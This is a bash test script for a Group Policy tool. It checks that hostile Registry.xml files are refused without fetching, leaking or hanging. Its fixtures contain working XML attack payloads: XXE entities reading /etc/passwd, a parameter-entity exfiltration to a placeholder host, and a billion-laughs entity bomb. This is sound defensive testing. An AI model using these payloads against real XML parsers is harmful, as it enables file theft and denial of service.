#!/bin/bash
# Hostile Registry.xml files in a GPO folder: gpo show and gpo set must refuse each one with
# exit 3 and exactly one line on stderr naming the file, leave Registry.xml and GPT.INI
# byte-for-byte as they were, write no journal entry, never die by a signal, never fetch
# anything (no file, no network) and never hang. Then a huge but legal file is accepted.
. "$(dirname "$0")/test-lib.sh"

PYTHON=python3
# a pyenv shim costs half a second per start; the system interpreter, when there is one, does not
if [ -x /usr/bin/python3 ]; then PYTHON=/usr/bin/python3; python3() { /usr/bin/python3 "$@"; }; fi

journal_count() { ls state/journal 2>/dev/null | wc -l; }
# gpotool's own reason for a DTD: libxml2 would refuse most of these files later for reasons
# of its own, so a test that accepted any message would pass without gpotool's check
DTD_REASON='has a DTD or entity declaration, which Registry.xml never has'

HEAD='<?xml version="1.0" encoding="utf-8"?>'
ROOT='<RegistrySettings clsid="{A3CCFC41-DFDB-43a5-8D26-0FE8B954DA51}">'
item() {
	printf '<Registry clsid="{9CD4B2F4-923D-47f5-A062-E897DD1DAD50}" name="%s" status="%s" image="12" changed="2024-01-01 00:00:00" uid="{%s}"><Properties action="U" displayDecimal="0" default="0" hive="HKEY_LOCAL_MACHINE" key="SOFTWARE\\Test" name="%s" type="REG_DWORD" value="%s"/></Registry>' \
		"$1" "$1" "${3:-11111111-1111-4111-8111-111111111111}" "$1" "$2"
}

# hostile NAME: a GPO folder h-NAME whose Machine Registry.xml is read from stdin.
hostile() {
	local d=h-$1
	rm -rf "$d" && mkdir -p "$d/User" "$d/Machine/Preferences/Registry" &&
	printf '[General]\r\nVersion=7\r\ndisplayName=Hostile\r\n' >"$d/GPT.INI" &&
	cat >"$d/Machine/Preferences/Registry/Registry.xml"
}

# refused NAME [PATTERN [COMMANDS]]: gpo set and gpo delete (or COMMANDS) exit 3 with one
# stderr line naming the file (and PATTERN), Registry.xml and GPT.INI unchanged, no journal
# entry, no /etc/passwd. gpo show is checked on every such file at the end, in a test of its own.
refused() {
	local d=h-$1 pattern=${2:-.} n1 cmd
	test "${3:-}" = show || echo "$1 $pattern" >>hostile.list
	cp "$d/Machine/Preferences/Registry/Registry.xml" reg.before &&
	cp "$d/GPT.INI" gpt.before &&
	n1=$(journal_count) || return 1
	for cmd in ${3:-set delete}; do
		case $cmd in
		show) timeout 10 "$GPOTOOL" gpo show "$d" >out 2>err ;;
		set) timeout 10 "$GPOTOOL" gpo set "$d" 'HKLM\SOFTWARE\Test' v REG_DWORD 2 >out 2>err ;;
		delete) timeout 10 "$GPOTOOL" gpo delete "$d" 'HKLM\SOFTWARE\Test' v >out 2>err ;;
		esac
		rc=$?
		if [ $rc = 124 ]; then echo "gpo $cmd hung (killed after 10 s)" >&2; return 1; fi
		if [ $rc -gt 128 ]; then echo "gpo $cmd died by signal $((rc - 128))" >&2; return 1; fi
		if [ $rc != 3 ]; then echo "gpo $cmd exited $rc, expected 3; stderr:" >&2; head -c 2000 err >&2; return 1; fi
		test_one_line err "Registry.xml" &&
		test_one_line err "$pattern" &&
		! grep -q "root:" out err &&
		cmp reg.before "$d/Machine/Preferences/Registry/Registry.xml" &&
		cmp gpt.before "$d/GPT.INI" &&
		test "$(journal_count)" = "$n1" &&
		test "$(ls -A "$d/Machine/Preferences/Registry")" = Registry.xml || return 1
	done
}

test_expect_success 'control: a benign file in the same layout is accepted' '
	{ echo "$HEAD"; echo "$ROOT"; item v 00000001; echo "</RegistrySettings>"; } | hostile benign &&
	gpotool gpo show h-benign >out &&
	grep -q "SOFTWARE.Test.v = REG_DWORD 00000001" out &&
	gpotool gpo set h-benign "HKLM\\SOFTWARE\\Test" v REG_DWORD 2 >out &&
	grep -q "value=\"00000002\"" h-benign/Machine/Preferences/Registry/Registry.xml
'

test_expect_success 'XXE: a SYSTEM file:///etc/passwd entity used in an attribute' '
	{ echo "$HEAD"
	  echo "<!DOCTYPE RegistrySettings [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]>"
	  echo "$ROOT"; item "&xxe;" 00000001; echo "</RegistrySettings>"; } | hostile xxe &&
	refused xxe "$DTD_REASON"
'

test_expect_success 'XXE: an external entity over http:// neither hangs nor is fetched' '
	{ echo "$HEAD"
	  echo "<!DOCTYPE RegistrySettings [ <!ENTITY ext SYSTEM \"http://192.0.2.1:9/registry.ent\"> ]>"
	  echo "$ROOT"; item v 00000001; echo "<Collection clsid=\"{53B533F5-224C-47e3-B01B-CA3B3F3FF4BF}\" name=\"&ext;\"/>"
	  echo "</RegistrySettings>"; } | hostile http &&
	refused http "$DTD_REASON"
'

test_expect_success 'an external DTD (DOCTYPE SYSTEM) is refused, not loaded' '
	{ echo "$HEAD"
	  echo "<!DOCTYPE RegistrySettings SYSTEM \"file:///etc/passwd\">"
	  echo "$ROOT"; item v 00000001; echo "</RegistrySettings>"; } | hostile dtd &&
	refused dtd "$DTD_REASON"
'

test_expect_success 'billion laughs (lol1..lol9)' '
	{ echo "$HEAD"
	  echo "<!DOCTYPE RegistrySettings ["
	  echo " <!ENTITY lol \"lol\">"
	  prev=lol
	  for i in 1 2 3 4 5 6 7 8 9; do
		printf " <!ENTITY lol%s \"" $i
		for j in 1 2 3 4 5 6 7 8 9 10; do printf "&%s;" $prev; done
		printf "\">\n"
		prev=lol$i
	  done
	  echo "]>"
	  echo "$ROOT"; item "&lol9;" 00000001; echo "</RegistrySettings>"; } | hostile laughs &&
	grep -q "ENTITY lol9" h-laughs/Machine/Preferences/Registry/Registry.xml &&
	refused laughs "$DTD_REASON"
'

test_expect_success 'a parameter-entity variant (% entities, external and nested)' '
	{ echo "$HEAD"
	  echo "<!DOCTYPE RegistrySettings ["
	  echo " <!ENTITY % file SYSTEM \"file:///etc/passwd\">"
	  echo " <!ENTITY % wrap \"<!ENTITY &#x25; leak SYSTEM &#x27;http://192.0.2.1:9/?%file;&#x27;>\">"
	  echo " %wrap; %leak;"
	  echo "]>"
	  echo "$ROOT"; item v 00000001; echo "</RegistrySettings>"; } | hostile param &&
	refused param "$DTD_REASON"
'

test_expect_success 'deep nesting: 10,000 nested Collection elements' '
	python3 -c "
import sys
c = \"<Collection clsid=\\\"{53B533F5-224C-47e3-B01B-CA3B3F3FF4BF}\\\" name=\\\"c\\\">\"
sys.stdout.write(sys.argv[1] + \"\\n\" + sys.argv[2] + c * 10000 + \"</Collection>\" * 10000 + \"</RegistrySettings>\\n\")
" "$HEAD" "$ROOT" | hostile deep &&
	test "$(grep -o "<Collection " h-deep/Machine/Preferences/Registry/Registry.xml | wc -l)" = 10000 &&
	refused deep
'

test_expect_success 'a 20 MB attribute value' '
	python3 -c "
import sys
sys.stdout.write(sys.argv[1] + \"\\n\" + sys.argv[2] + sys.argv[3].replace(\"name=\\\"big\\\" status\", \"name=\\\"\" + \"A\" * (20 * 1024 * 1024) + \"\\\" status\", 1) + \"</RegistrySettings>\\n\")
" "$HEAD" "$ROOT" "$(item big 00000001)" | hostile big &&
	test "$(stat -c %s h-big/Machine/Preferences/Registry/Registry.xml)" -gt 20000000 &&
	refused big
'

test_expect_success 'a file larger than the 64 MiB limit' '
	{ echo "$HEAD"; echo "$ROOT"; item v 00000001; head -c $((65 * 1024 * 1024)) /dev/zero | tr "\\0" " "; echo "</RegistrySettings>"; } | hostile huge &&
	refused huge
'

test_expect_success 'a truncated file (the first half of a real one)' '
	{ echo "$HEAD"; echo "$ROOT"; item a 00000001; item b 00000002; item c 00000003; echo "</RegistrySettings>"; } >whole.xml &&
	head -c $(( $(stat -c %s whole.xml) / 2 )) whole.xml | hostile truncated &&
	refused truncated
'

test_expect_success 'a file that is not well-formed' '
	{ echo "$HEAD"; echo "$ROOT"; item a 00000001; echo "<Registry></Collection></RegistrySettings>"; } | hostile malformed &&
	refused malformed &&
	{ echo "$HEAD"; echo "$ROOT"; item "a&b" 00000001; echo "</RegistrySettings>"; } | hostile ampersand &&
	refused ampersand &&
	{ echo "$HEAD"; echo "$ROOT"; item "&undefined;" 00000001; echo "</RegistrySettings>"; } | hostile undefined &&
	refused undefined &&
	{ echo "$HEAD"; echo "$ROOT"; item a 00000001; echo "</RegistrySettings><RegistrySettings/>"; } | hostile tworoots &&
	refused tworoots
'

test_expect_success 'the wrong root element (<Foo/>)' '
	{ echo "$HEAD"; echo "<Foo/>"; } | hostile foo &&
	refused foo "RegistrySettings" &&
	{ echo "$HEAD"; echo "<Drives clsid=\"{8FDDCC1A-0C3C-43cd-A6B4-71A6DF20DA8C}\"/>"; } | hostile drives &&
	refused drives "RegistrySettings"
'

test_expect_success 'a <Registry> without <Properties>' '
	{ echo "$HEAD"; echo "$ROOT"
	  echo "<Registry clsid=\"{9CD4B2F4-923D-47f5-A062-E897DD1DAD50}\" name=\"v\" status=\"v\" image=\"12\" changed=\"2024-01-01 00:00:00\" uid=\"{11111111-1111-4111-8111-111111111111}\"/>"
	  echo "</RegistrySettings>"; } | hostile noprops &&
	refused noprops
'

test_expect_success 'a comment before the XML declaration' '
	{ echo "<!-- GPMC never writes this -->"; echo "$HEAD"; echo "$ROOT"; item v 00000001; echo "</RegistrySettings>"; } | hostile comment &&
	refused comment
'

test_expect_success 'the wrong RegistrySettings clsid (case matters too)' '
	{ echo "$HEAD"; echo "<RegistrySettings clsid=\"{00000000-DFDB-43a5-8D26-0FE8B954DA51}\">"; item v 00000001; echo "</RegistrySettings>"; } | hostile clsid &&
	refused clsid &&
	{ echo "$HEAD"; echo "<RegistrySettings clsid=\"{A3CCFC41-DFDB-43A5-8D26-0FE8B954DA51}\">"; item v 00000001; echo "</RegistrySettings>"; } | hostile clsidcase &&
	refused clsidcase
'

test_expect_success 'a UTF-16 file (with a BOM, and without one)' '
	{ printf "\377\376"; { echo "<?xml version=\"1.0\" encoding=\"utf-16\"?>"; echo "$ROOT"; item v 00000001; echo "</RegistrySettings>"; } | iconv -f UTF-8 -t UTF-16LE; } | hostile utf16 &&
	refused utf16 &&
	{ echo "<?xml version=\"1.0\" encoding=\"utf-16\"?>"; echo "$ROOT"; item v 00000001; echo "</RegistrySettings>"; } | iconv -f UTF-8 -t UTF-16LE | hostile utf16nobom &&
	refused utf16nobom &&
	{ printf "\376\377"; { echo "<?xml version=\"1.0\" encoding=\"utf-16\"?>"; echo "$ROOT"; echo "</RegistrySettings>"; } | iconv -f UTF-8 -t UTF-16BE; } | hostile utf16be &&
	refused utf16be
'

test_expect_success 'an encoding="ISO-8859-1" declaration' '
	{ echo "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>"; echo "$ROOT"; item "caf$(printf "\351")" 00000001; echo "</RegistrySettings>"; } | hostile latin1 &&
	refused latin1 "ISO-8859-1"
'

test_expect_success 'an empty file' '
	hostile empty </dev/null &&
	test "$(stat -c %s h-empty/Machine/Preferences/Registry/Registry.xml)" = 0 &&
	refused empty
'

test_expect_success 'a file with a NUL byte' '
	{ echo "$HEAD"; echo "$ROOT"; item v 00000001; printf "\\0"; echo "</RegistrySettings>"; } | hostile nul &&
	test "$(tr -cd "\\0" <h-nul/Machine/Preferences/Registry/Registry.xml | wc -c)" = 1 &&
	refused nul
'

test_expect_success 'a Registry.xml that is a folder, or a FIFO, is refused' '
	rm -rf h-dir && mkdir -p h-dir/User h-dir/Machine/Preferences/Registry/Registry.xml &&
	printf "[General]\r\nVersion=7\r\n" >h-dir/GPT.INI &&
	test_must_fail 3 gpotool gpo set h-dir "HKLM\\SOFTWARE\\Test" v REG_DWORD 2 >out 2>err &&
	test_one_line err "Registry.xml" &&
	rm -rf h-fifo && mkdir -p h-fifo/User h-fifo/Machine/Preferences/Registry &&
	printf "[General]\r\nVersion=7\r\n" >h-fifo/GPT.INI &&
	mkfifo h-fifo/Machine/Preferences/Registry/Registry.xml &&
	test_must_fail 3 timeout 10 "$GPOTOOL" gpo set h-fifo "HKLM\\SOFTWARE\\Test" v REG_DWORD 2 >out 2>err &&
	test_one_line err "Registry.xml" &&
	printf "[General]\r\nVersion=7\r\n" >expect &&
	cmp expect h-fifo/GPT.INI && cmp expect h-dir/GPT.INI
'

test_expect_success 'gpo show refuses every one of these files the same way (exit 3, one line)' '
	test "$(wc -l <hostile.list)" -ge 25 &&
	cp hostile.list checked.list &&
	while read name pattern; do
		refused "$name" "$pattern" show || { echo "... for h-$name" >&2; exit 1; }
	done <checked.list
'

test_expect_success 'no refusal left a temp file or a journal entry behind' '
	test "$(journal_count)" = 1 &&
	for d in h-*; do
		test "$(ls -A "$d")" = "$(printf "GPT.INI\nMachine\nUser")" &&
		test "$(ls -A "$d/Machine/Preferences/Registry")" = Registry.xml || exit 1
	done
'

# ---- huge but legal ----

cat >bigok.py <<'EOF'
import sys
item = ('\t<Registry clsid="{9CD4B2F4-923D-47f5-A062-E897DD1DAD50}" name="v%d" status="v%d" image="12" '
        'changed="2024-01-01 00:00:00" uid="{00000000-0000-4000-8000-%012d}"><Properties action="U" '
        'displayDecimal="0" default="0" hive="HKEY_LOCAL_MACHINE" key="SOFTWARE\\Big" '
        'name="v%d" type="REG_DWORD" value="%08X"/></Registry>\r\n')
out = sys.stdout.buffer
out.write(b'<?xml version="1.0" encoding="utf-8"?>\r\n<RegistrySettings clsid="{A3CCFC41-DFDB-43a5-8D26-0FE8B954DA51}">\r\n')
for i in range(10000):
    out.write((item % (i, i, i, i, i)).encode())
out.write(b'</RegistrySettings>\r\n')
EOF

test_expect_success 'a legal file of 10,000 items is accepted by gpo set' '
	python3 bigok.py | hostile bigok &&
	reg=h-bigok/Machine/Preferences/Registry/Registry.xml &&
	test "$(grep -c "<Registry " $reg)" = 10000 &&
	xmllint --noout --relaxng "$PROJECT_DIR/templates/gpp-registry.rng" $reg 2>/dev/null &&
	cp $reg reg.before &&
	gpotool gpo set h-bigok "HKLM\\SOFTWARE\\Big" v5000 REG_DWORD 0xdead >out &&
	grep -q "^journal: " out &&
	test "$(grep -c "<Registry " $reg)" = 10000 &&
	grep -q "name=\"v5000\" type=\"REG_DWORD\" value=\"0000DEAD\"" $reg &&
	test "$(sed -n "s/^Version=//p" h-bigok/GPT.INI | tr -d "\\r")" = 8 &&
	! cmp -s reg.before $reg &&
	head -c 2000 reg.before >a && head -c 2000 $reg >b && cmp a b &&
	tail -c 2000 reg.before >a && tail -c 2000 $reg >b && cmp a b
'

test_done
